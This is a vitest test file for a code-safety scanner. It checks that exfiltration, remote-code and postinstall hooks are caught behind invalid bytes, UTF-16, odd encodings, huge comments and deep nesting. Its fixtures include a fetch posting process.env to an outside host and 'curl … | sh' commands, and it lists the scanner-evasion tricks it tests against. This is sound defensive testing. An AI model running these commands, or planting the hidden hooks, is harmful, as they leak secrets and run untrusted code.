import { describe, expect, it } from 'vitest';
import { riskOf } from '../../risk.ts';
import { findingGroup } from '../../../format/finding/finding.ts';
import { unreadFiles } from '../../capabilities.ts';
import { scan } from '../../scan.ts';
import { testBuild } from '../../test-build.ts';
import { allRules } from '../all.ts';

const SENDS =
  "fetch('https://files.host-of-a.io', { method: 'POST', body: JSON.stringify(process.env) })";
const RUNS = "require('child_process').exec('curl https://files.host-of-a.io/a | sh')";
const PYTHON = "import os\nos.system('curl https://files.host-of-a.io/a | sh')\n";

function found(files: Readonly<Record<string, string | Uint8Array>>): {
  risk: string;
  codes: string[];
  unread: string[];
} {
  const build = testBuild(files);
  const findings = scan(build, allRules).filter((one) => findingGroup(one) === 'safety');
  const codes = findings.filter(({ level }) => level !== 'info').map(({ code }) => code);
  return { risk: riskOf(findings), codes: [...new Set(codes)].sort(), unread: unreadFiles(build) };
}

function withByte(text: string, byte: number): Uint8Array {
  return Buffer.concat([Buffer.from('// '), Buffer.from([byte]), Buffer.from(`\n${text}`)]);
}

describe('code that could be hidden', () => {
  it.each([
    ['a byte that is not UTF-8', withByte(`${SENDS};\n${RUNS}`, 0xff)],
    ['a NUL', withByte(`${SENDS};\n${RUNS}`, 0)],
    ['UTF-16', Buffer.from(`\uFEFF${SENDS};\n${RUNS}`, 'utf16le')],
    ['900 kB of comments', `${SENDS};\n${RUNS};\n/*${'x'.repeat(900_000)}*/`],
    ['200 brackets', `x = ${'['.repeat(200)}${SENDS}, ${RUNS}${']'.repeat(200)}`],
    ['200 blocks', `${'{'.repeat(200)}${SENDS};\n${RUNS}${'}'.repeat(200)}`],
    ['100,000 characters of comments', `/*${'x'.repeat(100_000)}*/${SENDS};\n${RUNS}`],
  ])('is found behind %s', (_, text) => {
    const { risk, codes } = found({ 'a.js': text });
    expect(risk).toBe('danger');
    expect(codes).toEqual(expect.arrayContaining(['data-exfiltration', 'remote-code-command']));
    expect(codes).not.toContain('source-unread');
  });

  it('is found behind one byte in a package.json', () => {
    const text = JSON.stringify({
      name: 'a',
      scripts: { postinstall: 'curl https://x.host-of-a.io | sh' },
    });
    const bytes = Buffer.concat([
      Buffer.from(text.slice(0, 10)),
      Buffer.from([0xff]),
      Buffer.from(text.slice(10)),
    ]);
    expect(found({ 'package.json': bytes }).codes).toContain('auto-run-script');
  });

  it.each([
    ['300 brackets', `{"a":${'['.repeat(300)}${']'.repeat(300)},`],
    ['3 MB', `{"a":"${'x'.repeat(3_000_000)}",`],
  ])('is found in a package.json behind %s', (_, start) => {
    const text = `${start}"scripts":{"postinstall":"curl https://x.host-of-a.io | sh"}}`;
    expect(found({ 'package.json': text }).codes).toContain('auto-run-script');
  });

  it.each(['latin-1', 'utf-7', 'cp1252', 'unicode_escape'])(
    'is found in Python in %s',
    (coding) => {
      expect(found({ 'a.py': `# coding: ${coding}\n${PYTHON}` }).risk).toBe('danger');
    },
  );
});

describe('code that the checks must not fail at', () => {
  it.each([
    'const {a, ...{b}} = c;',
    'const {...{b}} = c;',
    'const {a, ...[b]} = c;',
    'let [a, ...{b, ...{d}}] = c;',
    'function f({a, ...{b}}) {}',
    '({a, ...{b}}) => b;',
    '({a, ...{b}} = c);',
    'for (const {a, ...{b}} of c) {}',
    'try {} catch ({a, ...{b}}) {}',
  ])('goes on at %s', (pattern) => {
    const { codes } = found({ 'a.js': `${pattern}\n${SENDS};\n` });
    expect(codes).not.toContain('check-failed');
  });

  it('is caution where a check fails', () => {
    const run = (): never => {
      throw new RangeError('no luck');
    };
    const findings = scan(testBuild({ 'a.js': 'a' }), [{ name: 'broken', run }]);
    expect(riskOf(findings)).toBe('caution');
  });
});

describe('source-unread', () => {
  it.each([
    ['in an encoding that is not known', 'a.py', `# coding: rot13\nx = 1\n`],
    ['of more than 1 MB without a source or sink', 'a.js', 'f(1);\n'.repeat(200_000)],
    ['of more than 1 MB', 'a.py', 'f(1)\n'.repeat(200_001)],
    ['with brackets that do not end', 'a.js', `x = ${'['.repeat(1_000)}`],
    ['nested far too deeply', 'a.js', `x = ${'f('.repeat(3_000)}${')'.repeat(3_000)}`],
    ['with a chain of 2,000 calls', 'a.js', `fetch('/a')${'.then(b)'.repeat(2_000)}`],
    ['with a chain of 2,000 calls', 'a.py', `import os\nos.getcwd()${'.a()'.repeat(2_000)}\n`],
  ])('is caution for code %s', (_, path, text) => {
    const { risk, codes, unread } = found({ [path]: text });
    expect([risk, unread]).toEqual(['caution', [path]]);
    expect(codes).toContain('source-unread');
  });

  it('is info for tests that nothing starts', () => {
    const { codes, unread } = found({ 'test/a.js': `x = ${'['.repeat(1_000)}` });
    expect(codes).not.toContain('source-unread');
    expect(unread).toEqual(['test/a.js']);
  });
});
